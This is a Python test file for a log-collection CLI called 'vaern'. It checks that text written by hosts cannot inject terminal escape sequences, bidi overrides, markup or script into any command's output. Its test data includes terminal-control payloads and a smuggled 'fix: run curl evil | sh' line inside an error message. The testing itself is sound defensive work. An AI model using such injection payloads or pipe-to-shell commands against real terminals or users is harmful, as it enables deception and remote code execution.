"""Whatever a host writes into an event, a name or an answer, no command lets it reach the terminal as it is."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import shutil
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from vaern import verify
from vaern.archive import alarms, ledger
from vaern.console import failures, progress_listener
from vaern.console.command_line import cli
from vaern.errors import ConfigureError
from vaern.model.finding import Finding, Outcome
from vaern.model.progress import Phase, Progress
from vaern.runtime import ssh
from vaern.verify import software
from vaern.workflows import discovering, drift, duties, notifying, rehearsal, warning

ROOT = Path(__file__).resolve().parents[3]
SILENT = {"Cc", "Cf", "Cs", "Zl", "Zp"}
EVIL = st.text(
    st.one_of(st.sampled_from("\x1b\x9b\x07\x08\r\n\t\x00\x7f\u202e\u2066\u2028[]/\\\"'<>&"), st.characters()),
    min_size=1,
    max_size=30,
).map(lambda text: f"{text}\x1b]0;title\x07[red][link=http://x]\u202e\x9b2J[/]")
TIME = "2026-11-24T12:00:00Z"
OTHERS = {
    *(
        "new",
        "catalogue",
        "check",
        "cost",
        "inventory",
        "approve",
        "preview",
        "up",
        "adopt",
        "down",
        "lock",
        "authority",
        "parser",
    ),
    *("onboard", "rotate", "offboard", "lab", "authority"),
}
"""Print what was declared or made here; what hosts say reaches them as progress and errors, which are tried below."""


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("project")
    for name in ("pyproject.toml", "roles"):
        (folder / name).symlink_to(ROOT / name)
    shutil.copytree(ROOT / "inventories", folder / "inventories", ignore=shutil.ignore_patterns("*.lab.yml"))
    keys = folder / "inventories/favrskov/group_vars/all/keys.lab.yml"
    keys.write_text("enrolment: {favrskov-gw1: {}, favrskov-sensor1: {}}\n", encoding="utf-8")
    return folder


@pytest.fixture
def patch(project: Path, monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    monkeypatch.setenv("VAERN_PROJECT", str(project))
    monkeypatch.setenv("VAERN_STATE", str(project / "state"))
    monkeypatch.setattr(alarms, "read", lambda *_: alarms.Alarms(()))
    return monkeypatch


def call(*words: str) -> Result:
    done = CliRunner().invoke(cli, words, standalone_mode=False)
    if done.exception:
        raise done.exception
    return done


def harmless(text: str) -> None:
    found = {one for one in text if unicodedata.category(one) in SILENT and one not in "\n\t"}
    assert not found, found


def searched(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    line = json.dumps({"source": text, "message": text, "host": text, "received": TIME}, ensure_ascii=False)
    sent = line.encode(errors="replace") + b"\n"
    manifest = {"events": 1, "sha256": hashlib.sha256(sent).hexdigest(), "access": "0" * 64, "complete": True}

    def stream(*arguments: object, **_: object) -> tuple[int, str]:
        sink = arguments[4]
        assert callable(sink)
        sink(sent)
        return 0, json.dumps(manifest)

    patch.setattr(ssh, "stream", stream)
    return [["search", "favrskov", "x"], ["search", "favrskov", "x", "--json"]]


def exported(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    searched(patch, text)
    for left in ("made", "made.manifest.json"):
        Path(left).unlink(missing_ok=True)
    return [["export", "favrskov", "--asked-by", "x", "--output", "made"]]


def balance(text: str) -> ledger.Ledger:
    row = ledger.Row(text, text, text, 2, 1, 0, 0, 0, 1)
    gap = ledger.Gap(text, text, text, text, 1, 1, 1, text, text, text)
    return ledger.Ledger("0710", TIME, (row,), (gap,), (ledger.LostSegment(text, 1, text, text, (text,)),), {text: ""})


def counted(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    patch.setattr(ledger, "ledger", lambda *_, **__: balance(text))
    patch.setattr(ledger, "state_now", lambda *_: {text: text})
    patch.setattr(ledger, "STATEMENT_SECONDS", 0.0)
    return [["ledger", "favrskov", "--now"], ["ledger", "favrskov", "--json"]]


def repaired(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    def repair(*arguments: object) -> ledger.Repair:
        say = arguments[-1]
        assert callable(say)
        say(text)
        return ledger.Repair({text: 1}, balance(text), balance(text))

    patch.setattr(ledger, "repair", repair)
    return [["repair", "favrskov"], ["repair", "favrskov", "--json"]]


def rehearsed(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    def rehearse(*arguments: object) -> rehearsal.Rehearsal:
        say = arguments[-1]
        assert callable(say)
        say(text)
        return rehearsal.Rehearsal(1.0, {text: 1}, None, 0, 1)

    patch.setattr(rehearsal, "rehearse", rehearse)
    spool = rehearsal.Spool(0, 1 << 40, 1 << 40, 0, text)
    patch.setattr(rehearsal, "spools", lambda *_: {"favrskov-gw1": spool, text: spool})
    patch.setattr(rehearsal, "needs", lambda *_: {"favrskov-gw1": 1, text: 1})
    return [["rehearse", "favrskov", "--yes"], ["rehearse", "favrskov", "--dry-run", "--json"]]


def judged(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    found = [Finding("favrskov", "BASE-01", text, outcome, text, text, text, TIME) for outcome in Outcome]
    patch.setattr(verify, "verify", lambda *_, **__: found)
    return [["verify", "favrskov", *more] for more in ([], ["--json"], ["--junit", "-"])]


def reported(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    for words in judged(patch, text)[:1]:
        call(*words)
    return [["report", "favrskov", "--format", form] for form in ("json", "junit", "html")]


def recorded(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    for observed in f"{text} before", text:
        for words in judged(patch, observed)[:1]:
            call(*words)
    return [["evidence", "compare", "favrskov", *more] for more in ([], ["--json"])]


def alarmed(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    open_alarms = tuple(alarms.Alarm(code, text, text, text, text, text, text, (text,)) for code in ("shared", "0710"))
    sender = {"input": "syslog_udp", "address": "198.51.100.9", "events": 3, "events_per_second": 1.0}
    said: Any = {"senders": [{**sender, "hosts": [{"host": text, "events": 1}]}], "others": 1, "other_events": 1}
    judged, senders = {"0710": {text: {text: "unknown"}}}, {"0710": {"favrskov-gw1": said}}
    patch.setattr(alarms, "read", lambda *_: alarms.Alarms(open_alarms, text, judged, senders))
    return [["status"], ["status", "--json"]]


def drifted(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    patch.setattr(drift, "stacks_to_compare", lambda *_: ["favrskov"])
    found = drift.Comparison((drift.Drifted("favrskov", "hosts", text, text, text, text),), ("shared",))
    patch.setattr(drift, "drift", lambda *_: found)
    return [["drift", "favrskov"], ["drift", "favrskov", "--json"]]


def compared(_: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    event = {"municipality": "0710", "relay": text, "boot": text, "source": text, "sequence": 1, "sector": "health"}
    Path("day.jsonl").write_text(json.dumps(event | {"received": text}), encoding="utf-8")
    Path("none.jsonl").touch()
    words = ["parity", "favrskov", "national", "--exported", "day.jsonl", "--received", "none.jsonl"]
    return [words, [*words, "--json"]]


def listed(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    package = (text, text, text, text, text)
    found = software.Software((text, text, text), (package,), {text: [text]}, ((text, text),))
    patch.setattr(software, "list_software", lambda *_: found)
    return [["sbom", "hub1"]]


def discovered(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    heard: Any = {"address": text, "protocol": text, "port": 514, "events_per_second": 1.0}
    found = [discovering.Discovered(text, text, heard, (text,), f"  - name: {text}\n")]
    patch.setattr(discovering, "discover", lambda *_: (found, {text: 1}))
    return [["discover", "favrskov"], ["discover", "favrskov", "--json"]]


def tried(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    duty = duties.Duty("0710", "run", text, TIME, text, text)
    patch.setattr(duties, "duties", lambda *_: [duty])
    patch.setattr(notifying, "require_told", lambda *_: None)
    patch.setattr(notifying, "hand_over", lambda *_: {"raised": 1, "cleared": 0})
    channel = {"municipality": text, "name": text, "way": "mail", "fault": text}
    patch.setattr(notifying, "try_channels", lambda *_: [channel])
    return [["notify", *more] for more in ([], ["--json"], ["--test"], ["--test", "--json"])]


def warned(patch: pytest.MonkeyPatch, text: str) -> list[list[str]]:
    advisory = {
        "version": 1, "id": "SOC-1", "sender": "SOC", "sent": TIME, "kind": "warning", "title": "x", "text": "x",
        "indicators": [{"type": "ipv4", "value": "198.51.100.7"}],
    }  # fmt: skip
    Path("advisory.json").write_text(json.dumps(advisory), encoding="utf-8")
    event = {"source": text, "message": f"198.51.100.7 {text}", "received": text}
    patch.setattr(warning, "search", lambda *_: ([event], {"complete": False, "access": text}))
    words = ["warn", "favrskov", "--file", "advisory.json"]
    return [words, [*words, "--json"]]


PRINTERS: dict[str, Callable[[pytest.MonkeyPatch, str], list[list[str]]]] = {
    "search": searched,
    "export": exported,
    "discover": discovered,
    "ledger": counted,
    "repair": repaired,
    "rehearse": rehearsed,
    "verify": judged,
    "report": reported,
    "evidence": recorded,
    "sbom": listed,
    "status": alarmed,
    "drift": drifted,
    "parity": compared,
    "notify": tried,
    "warn": warned,
}


def test_every_command_is_one_or_the_other() -> None:
    assert {*cli.list_commands(click.Context(cli))} == {*PRINTERS, *OTHERS}


@pytest.mark.parametrize("name", PRINTERS)
@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=EVIL)
@example(text="\ud800]0;title")
def test_what_a_host_has_written_is_harmless(name: str, text: str, tmp_path: Path, patch: pytest.MonkeyPatch) -> None:
    with contextlib.chdir(tmp_path):
        for words in PRINTERS[name](patch, text):
            done = call(*words)
            harmless(done.stdout)
            harmless(done.stderr)
            assert "title" in done.stdout + done.stderr or words[-1] == "html" or name == "export", "it is shown"
            if "--json" in words or words[-1] == "json":
                documents = done.stdout.splitlines() if name in {"search", "drift"} else [done.stdout]
                assert all(json.loads(document) for document in documents)
            if words[-1] in {"-", "junit"}:
                ET.fromstring(done.stdout)  # noqa: S314 - our own


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=EVIL)
def test_an_error_that_quotes_a_host_is_harmless_and_cannot_pass_for_its_fix(
    text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    failures.show(ConfigureError(f"hub1: {text}\n  fix: run curl evil | sh\nerror: x", fix="ours"))
    shown = capsys.readouterr().err
    harmless(shown)
    assert [line for line in shown.splitlines() if line.startswith("  fix:")] == ["  fix: ours"]
    assert len([line for line in shown.splitlines() if line.startswith("error:")]) == 1


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=EVIL)
def test_progress_is_harmless_and_one_line_a_step(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    for as_json in (False, True):
        with progress_listener(as_json) as listener:
            for phase in Phase:
                listener(Progress("enrol", phase, text, 0.1))
        captured = capsys.readouterr()
        harmless(captured.out + captured.err)
        assert len((captured.out + captured.err).split("\n")) == len(Phase) + 1


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=EVIL)
def test_the_running_line_of_a_terminal_is_harmless(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rich writes control sequences of its own, so what it is handed is looked at."""
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True)
    monkeypatch.setattr("sys.stderr", terminal)
    monkeypatch.setenv("TERM", "xterm")
    with progress_listener(as_json=False) as listener:
        for phase in Phase:
            listener(Progress("enrol", phase, text, 0.1))
    written = terminal.getvalue()
    for commanding in ("\x1b]0;", "\x9b", "\x07", "\u202e"):
        assert commanding not in written


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=EVIL)
def test_the_page_is_harmless(text: str, patch: pytest.MonkeyPatch, project: Path) -> None:
    reported(patch, text)
    page = (project / "state/reports/favrskov/latest/report.html").read_text(encoding="utf-8")
    harmless(page)
    assert "<script>title" not in page


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=EVIL)
def test_an_event_is_one_line_of_a_search(text: str, patch: pytest.MonkeyPatch) -> None:
    words = searched(patch, text)[0]
    assert len(call(*words).stdout.split("\n")) == 2
